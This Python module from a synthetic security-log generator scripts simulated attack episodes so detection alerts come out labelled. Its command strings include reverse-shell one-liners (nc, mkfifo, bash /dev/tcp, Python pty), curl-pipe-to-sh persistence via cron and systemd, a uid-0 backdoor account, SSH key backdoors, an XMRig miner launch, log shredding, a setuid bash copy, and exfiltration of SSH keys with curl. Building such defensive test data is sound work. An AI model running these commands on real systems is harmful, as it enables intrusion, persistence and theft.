"""The attack episodes, planned from the configuration alone (so ``episodes()`` and ``generate()``
agree) within the last ``attack_days``: each kind scripted with the same actions as benign work,
on a host that kind prefers, every alert of it labelled.
"""
from __future__ import annotations

import random
from datetime import datetime, timezone
from typing import Callable, Dict, List, Tuple
from urllib.parse import quote as _urlquote

from mimizuku.tools.synth.catalogues import (
    ATTACK_UAS,
    DIRB_WORDS,
    DISCOVERY_CMDS,
    EPISODE_HOSTS,
    ODD_UNITS,
    RECON_PATHS,
    SCANNER_UAS,
    SSH_WORDLIST,
)
from mimizuku.tools.synth.fleet import DAY_MS, HOUR_MS, MIN_MS
from mimizuku.tools.synth.formats import hexs, public_ip, rand_token, stable_int
from mimizuku.tools.synth.hosts import ADMINS, Actor, Cursor, Host
from mimizuku.tools.synth.ruleset import DEC_PAM


class AttackEpisodes:
    """The World's attack episodes: ``episode_plans`` and one ``_ep_<kind>`` per kind."""

    # ---------------------------------------------------------------- attack episodes
    def episode_plans(self) -> List[dict]:
        """Plan every attack episode from the configuration alone (no benign state), so
        :func:`episodes` and :func:`generate` agree. Each plan holds its timed events."""
        kinds = self.cfg.resolved_episodes()
        if not kinds or self.attack_window <= 0:
            return []
        first = self.days - self.attack_window
        counts: Dict[str, int] = {}
        plans = []
        saved = self.sink
        self.episode_mode = True
        try:
            for kind in kinds:
                counts[kind] = counts.get(kind, 0) + 1
                name = f"{kind}#{counts[kind]}"
                r = random.Random(f"mimizuku-synth:{self.seed}:episode:{name}")
                day = first + r.randrange(self.attack_window)
                h = self._episode_host(kind, r)
                if kind == "unusual_login_sudo":
                    offset = 2 * HOUR_MS + r.randrange(150 * MIN_MS)
                else:
                    offset = 30 * MIN_MS + r.randrange(21 * HOUR_MS)
                self.sink = []
                # Counters are borrowed, not consumed: the benign plan must not depend on attacks.
                saved_counters = [(x, x.pid, x.ses) for x in self.hosts]
                for x in self.hosts:
                    x.pid = 2000 + (x.pid + (day + 1) * 37_000 + r.randrange(20_000)) % 4_000_000
                    x.ses = x.ses + (day + 1) * 150 + r.randrange(100)
                try:
                    desc = getattr(self, "_ep_" + kind)(Cursor(self.t0 + day * DAY_MS + offset, r), h)
                finally:
                    for x, pid, ses in saved_counters:
                        x.pid, x.ses = pid, ses
                events = sorted((e for e in self.sink if self.t0 <= e[0] < self.t_end), key=lambda e: e[0])
                plans.append({"episode": name, "kind": kind, "host": h, "events": events, "description": desc})
        finally:
            self.episode_mode = False
            self.sink = saved
            self.last_run = (None, 0, 0)
        return plans

    def _episode_host(self, kind: str, r: random.Random) -> Host:
        prefs = EPISODE_HOSTS[kind]
        cands = [h for h in self.hosts if h.role in prefs]
        if kind in ("unusual_login_sudo", "ssh_bruteforce_success"):
            exposed = [h for h in cands if h.exposed_ssh]
            cands = exposed or cands
        cands = cands or [h for h in self.hosts if not h.is_manager] or self.hosts
        return r.choice(cands)

    def _attacker_ip(self, r: random.Random) -> str:
        bots = set(self.botnet)
        while True:
            ip = public_ip(r)
            if ip not in bots:
                return ip

    def _ep_root(self, c: Cursor, h: Host, ip: str, *, history: bool = True) -> Tuple[Actor, Callable[[], None]]:
        """How the attacker holds root on ``h``: a stolen admin key and ``sudo -i`` (through the
        bastion when ``h`` is not exposed), or a root shell spawned by an exploited daemon."""
        r = c.r
        if r.random() < 0.65:
            adm = r.choice(ADMINS)
            bastions = self.by_role.get("bastion")
            outer = None
            src = ip
            if not h.exposed_ssh and bastions and bastions[0] is not h:
                outer = self.ssh_login(c, bastions[0], adm, ip)
                self.run(c, outer, ["ssh", h.name], gap=(0.5, 3))
                src = bastions[0].ip
            a = self.ssh_login(c, h, adm, src, history=history)
            root = self.root_shell_open(c, a)

            def close() -> None:
                if history:
                    self.root_shell_close(c, a, root)
                else:
                    self.sudo_close(c, a)
                self.ssh_logout(c, a)
                if outer is not None:
                    self.ssh_logout(c, outer)
            return root, close
        daemon = r.choice(("/usr/sbin/cron", "/usr/lib/snapd/snapd", "/usr/sbin/rsyslogd"))
        root = Actor(h, "root", tty="(none)", cwd="/", pid=h.next_pid(r), exe=daemon)
        root.pid = self.run(c, root, ["sh", "-i"], gap=(1, 6))
        root.exe = "/usr/bin/dash"
        return root, lambda: None

    def _ep_web_shell(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        ua = r.choice(ATTACK_UAS)
        dt = datetime.fromtimestamp(c.t // 1000, timezone.utc)
        self.web_requests(h, [(c.adv(1, 8), ip, "GET", url, 404, r.randrange(150, 560), "-", ua)
                              for url in r.sample(RECON_PATHS, r.randrange(3, 7))])
        c.adv(20, 120)
        name = f"{r.choice(('cache', 'img', 'thumb', 'upload', 'wp-info', 'config', 'x'))}_{hexs(r, 6)}.php"
        updir = f"/var/www/app/shared/uploads/{dt.year}/{dt.month:02d}"
        shell = f"{updir}/{name}"
        exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
        master = 800 + stable_int(h.name + exe, 400)
        worker = master + 1 + r.randrange(60)
        self.fim(c, h, shell, "add", (33, 33, 33, None, worker, master, exe, exe, "/", "/"), owner="www-data",
                 size=r.randrange(300, 4800), key=f"webshell|{name}")
        url = f"/uploads/{dt.year}/{dt.month:02d}/{name}"
        www = Actor(h, "www-data", cwd=updir, pid=worker, exe=exe, ppid=master)
        cmds = ["whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www/app", "ps aux", "cat /var/www/app/shared/.env",
                "ss -tlnp", "find / -perm -4000 -type f"]
        for cmd in ["id"] + r.sample(cmds, r.randrange(3, 7)):
            c.adv(4, 45)
            self.web_requests(h, [(c.t, ip, "GET", f"{url}?c={_urlquote(cmd, safe='')}", 200, r.randrange(40, 9000),
                                   "-", ua)])
            c.t += r.randrange(20, 200)
            sh = self.run(c, www, ["sh", "-c", cmd], ppid=worker, gap=(0.002, 0.02))
            self.run(c, www, cmd.split(), ppid=sh, gap=(0.05, 0.5))
        if r.random() < 0.75:
            cmd = f"cd /tmp; wget http://{ip}/x.sh; chmod +x x.sh"
            c.adv(10, 60)
            self.web_requests(h, [(c.t, ip, "GET", f"{url}?c={_urlquote(cmd, safe='')}", 200, 0, "-", ua)])
            c.t += r.randrange(20, 200)
            sh = self.run(c, www, ["sh", "-c", cmd], ppid=worker, gap=(0.002, 0.02))
            self.run(c, www, ["wget", f"http://{ip}/x.sh"], cwd="/tmp", ppid=sh, gap=(0.3, 2))
            self.fim(c, h, "/tmp/x.sh", "add", None, owner="www-data", size=r.randrange(200, 3000))
            self.run(c, www, ["chmod", "+x", "x.sh"], cwd="/tmp", ppid=sh, gap=(0.01, 0.1))
            self.fim(c, h, "/tmp/x.sh", "chmod", None, perm="rwxr-xr-x")
        return f"web shell {name} uploaded to {h.name} from {ip}; commands run as www-data through it"

    def _ep_reverse_shell(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        port = r.choice((4444, 443, 8080, 9001, 1337))
        if h.role == "web":
            exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
            master = 800 + stable_int(h.name + exe, 400)
            a = Actor(h, "www-data", cwd="/var/www/app/current/public", pid=master + 1 + r.randrange(60), exe=exe,
                       ppid=master)
            close: Callable[[], None] = lambda: None
        else:
            a, close = self._ep_root(c, h, ip)
        pycode = (f"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                  f"s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);"
                  f"os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/sh\")")
        variants = {
            "nc": (f"nc -e /bin/sh {ip} {port}", [["nc", "-e", "/bin/sh", ip, str(port)]]),
            "mkfifo": (f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
                       [["rm", "/tmp/f"], ["mkfifo", "/tmp/f"], ["cat", "/tmp/f"], ["/bin/sh", "-i"],
                        ["nc", ip, str(port)]]),
            "bash": (f"bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
                     [["bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"], ["bash", "-i"]]),
            "python": (f"python3 -c '{pycode}'", [["python3", "-c", pycode], ["/bin/sh"]]),
        }
        order = r.sample(["nc", "mkfifo", "bash", "python"], r.randrange(2, 5))
        last = a.pid
        for v in order:
            line, children = variants[v]
            sh = self.run(c, a, ["sh", "-c", line], gap=(0.002, 0.02))
            for argv in children:
                last = self.run(c, a, argv, ppid=sh, gap=(0.01, 0.2))
            c.adv(5, 50)
        shell = Actor(h, a.user, auid=a.auid, ses=a.ses, tty="pts/0", cwd=a.cwd, pid=last, ppid=a.pid)
        pty = self.run(c, shell, ["python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"], gap=(0.1, 0.5))
        shell.pid = self.run(c, shell, ["/bin/bash"], ppid=pty, gap=(2, 10))
        for argv in [["id"]] + r.sample(DISCOVERY_CMDS, r.randrange(3, 7)):
            self.run(c, shell, argv, gap=(3, 30))
        close()
        return f"reverse shells to {ip}:{port} from {h.name} as {a.user} ({', '.join(order)})"

    def _ep_persistence(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip)
        how = r.sample(["cron", "systemd", "rc.local"], r.randrange(2, 4))
        for m in how:
            if m == "cron":
                self.run(c, root, ["crontab", "-l"], gap=(1, 6))
                ct = self.run(c, root, ["crontab", "-"], gap=(0.05, 0.3))
                self.fim(c, h, "/var/spool/cron/crontabs/root", "modify",
                         self.who(root, "/usr/bin/crontab", ct), new_inode=True,
                         diff=f"23a24\n> */10 * * * * curl -fsSL http://{ip}/u.sh | sh\n")
                self.syslog(c.t, h, "2833", "crontab", ct, "(root) REPLACE (root)", {}, None, "/var/log/syslog")
            elif m == "systemd":
                unit = r.choice(ODD_UNITS)
                self.fim(c, h, f"/etc/systemd/system/{unit}", "add", self.who(root, "/usr/bin/bash", root.pid),
                         size=r.randrange(180, 420))
                c.adv(5, 40)
                self.run(c, root, ["systemctl", "daemon-reload"], gap=(0.5, 3))
                sc = self.run(c, root, ["systemctl", "enable", "--now", unit], gap=(0.05, 0.3))
                self.fim(c, h, f"/etc/systemd/system/multi-user.target.wants/{unit}", "add",
                         self.who(root, "/usr/bin/systemctl", sc), size=len(unit) + 20)
                svc = self.timer_actor(c, h)
                loop = self.run(c, svc, ["/bin/bash", "-c", f"while true; do curl -fsSL http://{ip}/u.sh | sh; "
                                         f"sleep 600; done"], gap=(0.05, 0.3))
                self.run(c, svc, ["curl", "-fsSL", f"http://{ip}/u.sh"], ppid=loop, gap=(0.01, 0.1))
                self.run(c, svc, ["sh"], ppid=loop, gap=(0.2, 2))
                self.run(c, svc, ["sleep", "600"], ppid=loop, gap=(1, 5))
            else:
                self.fim(c, h, "/etc/rc.local", "add", self.who(root, "/usr/bin/bash", root.pid),
                         size=r.randrange(90, 300))
                c.adv(3, 30)
                ch = self.run(c, root, ["chmod", "+x", "/etc/rc.local"], gap=(0.05, 0.2))
                self.fim(c, h, "/etc/rc.local", "chmod", self.who(root, "/usr/bin/chmod", ch), perm="rwxr-xr-x")
            c.adv(10, 120)
        close()
        return f"persistence on {h.name} via {', '.join(how)}; payload from {ip}"

    def _ep_uid0_user(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        uname = r.choice(("sysadm2", "sysadmin", "support", "backup2", "systemd-sync", "toor"))
        root, close = self._ep_root(c, h, ip)
        ua = self.run(c, root, ["useradd", "-o", "-u", "0", "-g", "0", "-G", "sudo", "-M", "-d", "/root", "-s",
                                "/bin/bash", uname], gap=(0.01, 0.05))
        tty = root.tty if root.tty != "(none)" else "none"
        self.syslog(c.t, h, "5902", "useradd", ua, f"new user: name={uname}, UID=0, GID=0, home=/root, "
                    f"shell=/bin/bash, from=/dev/{tty}" if tty != "none" else
                    f"new user: name={uname}, UID=0, GID=0, home=/root, shell=/bin/bash, from=none", {}, None)
        who = self.who(root, "/usr/sbin/useradd", ua)
        for f in ("/etc/group", "/etc/gshadow", "/etc/passwd", "/etc/shadow", "/etc/group-", "/etc/gshadow-",
                  "/etc/passwd-", "/etc/shadow-"):
            self.fim(c, h, f, "modify", who, new_inode=True)
            c.t += r.randrange(2, 30)
        h.add_user(uname, 0, 0, "/root")
        c.adv(3, 30)
        pw = self.run(c, root, ["passwd", uname], euser="root", gap=(4, 15))
        self.syslog(c.t, h, "5555", "passwd", pw, f"pam_unix(passwd:chauthtok): password changed for {uname}",
                    DEC_PAM, {"dstuser": uname})
        self.fim(c, h, "/etc/shadow", "modify", self.who(root, "/usr/bin/passwd", pw), new_inode=True)
        c.adv(5, 60)
        close()
        if h.exposed_ssh:
            c.adv(120, 1200)
            a = self.ssh_login(c, h, uname, ip, method="password")
            for argv in (["id"], ["w"], ["cat", "/etc/shadow"]):
                self.run(c, a, argv, gap=(2, 20))
            self.ssh_logout(c, a)
        return f"uid-0 account {uname} created on {h.name}"

    def _ep_ssh_key_backdoor(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip)
        key = (f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{rand_token(r, 43)} "
               f"{r.choice(('root@kali', 'x@x', 'admin@DESKTOP-' + rand_token(r, 7).upper()))}")
        self.run(c, root, ["mkdir", "-p", "/root/.ssh"], gap=(2, 10))
        c.adv(5, 25)
        self.fim(c, h, "/root/.ssh/authorized_keys", "modify", self.who(root, "/usr/bin/bash", root.pid),
                 delta=len(key) + 1, diff=f"1a2\n> {key}\n")
        c.adv(3, 15)
        self.run(c, root, ["chmod", "600", "/root/.ssh/authorized_keys"], gap=(2, 15))
        user = "deploy" if "deploy" in h.users else ("svc-backup" if "svc-backup" in h.users else r.choice(ADMINS))
        path = f"{h.home(user)}/.ssh/authorized_keys"
        tee = self.run(c, root, ["tee", "-a", path], gap=(0.2, 2))
        self.fim(c, h, path, "modify", self.who(root, "/usr/bin/tee", tee), delta=len(key) + 1, diff=f"2a3\n> {key}\n")
        self.run(c, root, ["chown", f"{user}:{user}", path], gap=(2, 15))
        if r.random() < 0.6:
            sed = self.run(c, root, ["sed", "-i", "s/^#\\?PermitRootLogin.*/PermitRootLogin prohibit-password/",
                                     "/etc/ssh/sshd_config"], gap=(0.1, 1))
            self.fim(c, h, "/etc/ssh/sshd_config", "modify", self.who(root, "/usr/bin/sed", sed), new_inode=True,
                     diff="34c34\n< PermitRootLogin no\n---\n> PermitRootLogin prohibit-password\n")
            self.run(c, root, ["systemctl", "reload", "ssh"], gap=(1, 10))
        close()
        if h.exposed_ssh:
            c.adv(300, 2400)
            a = self.ssh_login(c, h, "root", ip)
            self.run(c, a, ["id"], gap=(2, 20))
            self.ssh_logout(c, a)
        return f"attacker ssh key added for root and {user} on {h.name}"

    def _ep_miner(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        close: Callable[[], None] = lambda: None
        if h.role == "web":
            exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
            master = 800 + stable_int(h.name + exe, 400)
            a = Actor(h, "www-data", cwd="/tmp", pid=master + 1 + r.randrange(60), exe=exe, ppid=master)
            a.pid = self.run(c, a, ["sh", "-c", f"curl -fsSL http://{ip}:8000/i.sh | sh"], gap=(0.01, 0.1))
            self.run(c, a, ["curl", "-fsSL", f"http://{ip}:8000/i.sh"], gap=(0.2, 1))
            a.pid = self.run(c, a, ["sh"], gap=(0.05, 0.5))
        elif h.role == "ci":
            a = Actor(h, "gitlab-runner", cwd=f"/home/gitlab-runner/builds/{self.runner_token[h.name]}/0/web/webapp",
                       pid=700 + stable_int(h.name + ":runner", 300), exe="/usr/bin/gitlab-runner")
            a.pid = self.run(c, a, ["bash", "--login"], gap=(0.05, 0.3))
        else:
            a, close = self._ep_root(c, h, ip)
        d = "/tmp/.X11-unix/.x"
        for argv in (["nproc"], ["cat", "/proc/cpuinfo"], ["pkill", "-f", "kdevtmpfsi"], ["mkdir", "-p", d]):
            self.run(c, a, argv, gap=(0.2, 3))
        cu = self.run(c, a, ["curl", "-fsSL", "-o", f"{d}/xmrig", f"http://{ip}:8000/xmrig"], gap=(2, 12))
        self.fim(c, h, f"{d}/xmrig", "add", self.who(a, "/usr/bin/curl", cu), owner=a.user, size=8_273_616,
                 key="xmrig-6.21.0-linux-static-x64")
        cu = self.run(c, a, ["curl", "-fsSL", "-o", f"{d}/config.json", f"http://{ip}:8000/config.json"], gap=(0.3, 2))
        self.fim(c, h, f"{d}/config.json", "add", self.who(a, "/usr/bin/curl", cu), owner=a.user, size=2_731)
        ch = self.run(c, a, ["chmod", "+x", f"{d}/xmrig"], gap=(0.5, 4))
        self.fim(c, h, f"{d}/xmrig", "chmod", self.who(a, "/usr/bin/chmod", ch), perm="rwxr-xr-x")
        wallet = "4" + rand_token(r, 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
        args = ["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", wallet, "-p", h.name, "--donate-level=1", "-B"]
        nh = self.run(c, a, ["nohup", "./xmrig"] + args, cwd=d, gap=(0.01, 0.05))
        self.run(c, a, ["./xmrig"] + args, path=f"{d}/xmrig", cwd=d, ppid=nh, gap=(2, 20))
        close()
        return f"XMRig miner dropped in {d} on {h.name} as {a.user}, pool via {ip}"

    def _ep_log_wiping(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip, history=False)
        self.run(c, root, ["shred", "-u", "-z", "-n", "3", "/var/log/auth.log"], gap=(1, 5))
        self.run(c, root, ["truncate", "-s", "0", "/var/log/syslog"], gap=(0.3, 2))
        self.at(c.t + r.randrange(800, 6000), self._b_ossec, h, "592", "/var/log/syslog")
        c.adv(2, 10)  # ': > /var/log/audit/audit.log' is a shell builtin: only logcollector notices
        self.at(c.t + r.randrange(800, 6000), self._b_ossec, h, "592", "/var/log/audit/audit.log")
        c.adv(2, 10)
        self.run(c, root, ["rm", "-f", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog"], gap=(1, 6))
        self.run(c, root, ["journalctl", "--rotate"], gap=(0.5, 3))
        self.run(c, root, ["journalctl", "--vacuum-time=1s"], gap=(1, 5))
        ln = self.run(c, root, ["ln", "-sf", "/dev/null", "/root/.bash_history"], gap=(0.5, 4))
        self.fim(c, h, "/root/.bash_history", "delete", self.who(root, "/usr/bin/ln", ln))
        close()
        return f"logs wiped on {h.name}: auth.log shredded, syslog and audit.log truncated, history unlinked"

    def _ep_suid_shell(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        root, close = self._ep_root(c, h, ip)
        cp = self.run(c, root, ["cp", "/bin/bash", "/usr/local/bin/.sh"], gap=(0.3, 3))
        self.fim(c, h, "/usr/local/bin/.sh", "add", self.who(root, "/usr/bin/cp", cp), key="dist|/usr/bin/bash",
                 size=18_000 + stable_int("/usr/bin/bash", 2_500_000), perm="rwxr-xr-x")
        ch = self.run(c, root, ["chmod", "u+s", "/usr/local/bin/.sh"], gap=(1, 8))
        self.fim(c, h, "/usr/local/bin/.sh", "chmod", self.who(root, "/usr/bin/chmod", ch), perm="rwsr-xr-x")
        close()
        c.adv(120, 1500)
        if h.role == "web":
            exe = "/usr/sbin/php-fpm7.4" if h.web != "apache" else "/usr/sbin/apache2"
            master = 800 + stable_int(h.name + exe, 400)
            u = Actor(h, "www-data", cwd="/var/www/app/current/public", pid=master + 1 + r.randrange(60), exe=exe,
                       ppid=master)
        else:
            user = "svc-backup" if "svc-backup" in h.users else r.choice(ADMINS)
            u = Actor(h, user, auid=h.uid(user), ses=h.next_ses(), tty="pts/1", pid=h.next_pid(r))
        sh = self.run(c, u, ["/usr/local/bin/.sh", "-p"], euser="root", gap=(1, 5))
        esc = Actor(h, u.user, auid=u.auid, ses=u.ses, tty=u.tty, cwd=u.cwd, pid=sh, euser="root", ppid=u.pid)
        for argv in (["id"], ["cat", "/etc/shadow"], ["whoami"]):
            self.run(c, esc, argv, gap=(2, 20))
        return f"setuid copy of bash at /usr/local/bin/.sh on {h.name}, then used by {u.user}"

    def _ep_unusual_login_sudo(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        adm = r.choice(ADMINS)
        a = self.ssh_login(c, h, adm, ip)
        for argv in (["id"], ["w"], ["last", "-n", "20"]):
            self.run(c, a, argv, gap=(2, 15))
        root, _sp = self.sudo_open(c, a, ["su", "-"], command="/usr/bin/su -")
        su = self.run(c, root, ["su", "-"], gap=(0.02, 0.1))
        self.syslog(c.t, h, "5303", "su", su, f"+ /dev/{a.tty} root:root", {"parent": "su", "name": "su"},
                    {"srcuser": "root", "dstuser": "root"})
        c.adv(0.005, 0.02)
        self.syslog(c.t, h, "5501", "su", su, f"pam_unix(su-l:session): session opened for user root by {adm}(uid=0)",
                    DEC_PAM, {"srcuser": adm, "dstuser": "root", "uid": "0"})
        sh = Actor(h, "root", auid=a.auid, ses=a.ses, tty=a.tty, cwd="/root", pid=su, ppid=root.pid)
        sh.pid = self.run(c, sh, ["-bash"], ppid=su, gap=(1, 5))
        others = [x for x in self.hosts if x is not h and not x.is_manager and x.role != "workstation"]
        cmds = [["cat", "/etc/shadow"], ["ls", "-la", "/root/.ssh"], ["cat", "/root/.ssh/id_rsa"], ["ss", "-tnp"],
                ["tar", "czf", "/tmp/.k.tgz", "/etc/ssl/private", "/root/.ssh"],
                ["curl", "-s", "-T", "/tmp/.k.tgz", f"http://{ip}:8080/"]]
        if others:
            cmds.insert(4, ["ssh", "-o", "StrictHostKeyChecking=no", f"root@{r.choice(others).ip}", "id"])
        for argv in cmds[:r.randrange(4, len(cmds) + 1)]:
            self.run(c, sh, argv, gap=(4, 40))
        self.fim(c, h, "/root/.bash_history", "modify", self.who(sh, "/usr/bin/bash", sh.pid, "/usr/bin/su"))
        c.adv(0.05, 0.3)
        self.syslog(c.t, h, "5502", "su", su, "pam_unix(su-l:session): session closed for user root", DEC_PAM,
                    {"dstuser": "root"})
        c.adv(0.05, 0.3)
        self.sudo_close(c, a)
        self.ssh_logout(c, a)
        return f"{adm} logged in to {h.name} from unseen {ip} at night, then sudo su -"

    def _ep_ssh_bruteforce_success(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        target = "svc-backup" if "svc-backup" in h.users else next((u for u in ADMINS if u in h.users), "root")
        attempts = []
        t = c.t
        tries = 0
        for _ in range(r.randrange(60, 160)):
            t += r.randrange(600, 3500)
            x = r.random()
            user = "root" if x < 0.4 else (target if x < 0.6 else r.choice(SSH_WORDLIST))
            pid = h.next_pid(r)
            port = r.randrange(30000, 65000)
            if user in h.users:
                attempts.append((t, "failed", user, ip, port, pid))
                tries += 1
                if tries >= 6:
                    attempts.append((t + r.randrange(50, 400), "maxauth", user, ip, port, pid))
                    tries = 0
            else:
                attempts.append((t, "invalid", user, ip, port, pid))
                attempts.append((t + r.randrange(500, 2500), "failed_invalid", user, ip, port, pid))
        self.ssh_attempts(h, attempts)
        c.t = t + r.randrange(3000, 20000)
        a = self.ssh_login(c, h, target, ip, method="password")
        for argv in (["id"], ["uname", "-a"], ["cat", "/etc/os-release"], ["w"]):
            self.run(c, a, argv, gap=(2, 15))
        wg = self.run(c, a, ["wget", "-q", f"http://{ip}/.b", "-O", "/tmp/.b"], gap=(1, 6))
        self.fim(c, h, "/tmp/.b", "add", self.who(a, "/usr/bin/wget", wg), owner=target, size=r.randrange(9000, 900000))
        ch = self.run(c, a, ["chmod", "+x", "/tmp/.b"], gap=(0.5, 3))
        self.fim(c, h, "/tmp/.b", "chmod", self.who(a, "/usr/bin/chmod", ch), perm="rwxr-xr-x")
        self.run(c, a, ["/tmp/.b"], path="/tmp/.b", gap=(5, 40))
        self.ssh_logout(c, a)
        return f"ssh brute force on {h.name} from {ip}, then a successful password login as {target}"

    def _ep_web_scan_flood(self, c: Cursor, h: Host) -> str:
        r = c.r
        ip = self._attacker_ip(r)
        ua = r.choice(SCANNER_UAS)
        reqs = []
        t = c.t
        exts = ("", ".php", "/", ".bak", ".txt", ".old", ".zip")
        for _ in range(r.randrange(250, 650)):
            t += r.randrange(40, 260)
            word = r.choice(DIRB_WORDS)
            url = "/" + word + r.choice(exts)
            status = 403 if word.startswith((".ht", "server-status", "cgi-bin")) else (301 if word in ("admin", "login")
                                                                                          else 404)
            reqs.append((t, ip, r.choice(("GET", "GET", "HEAD")), url, status, r.randrange(150, 600), "-", ua))
        self.web_requests(h, reqs)
        return f"directory brute force against {h.name} from {ip} ({len(reqs)} requests)"
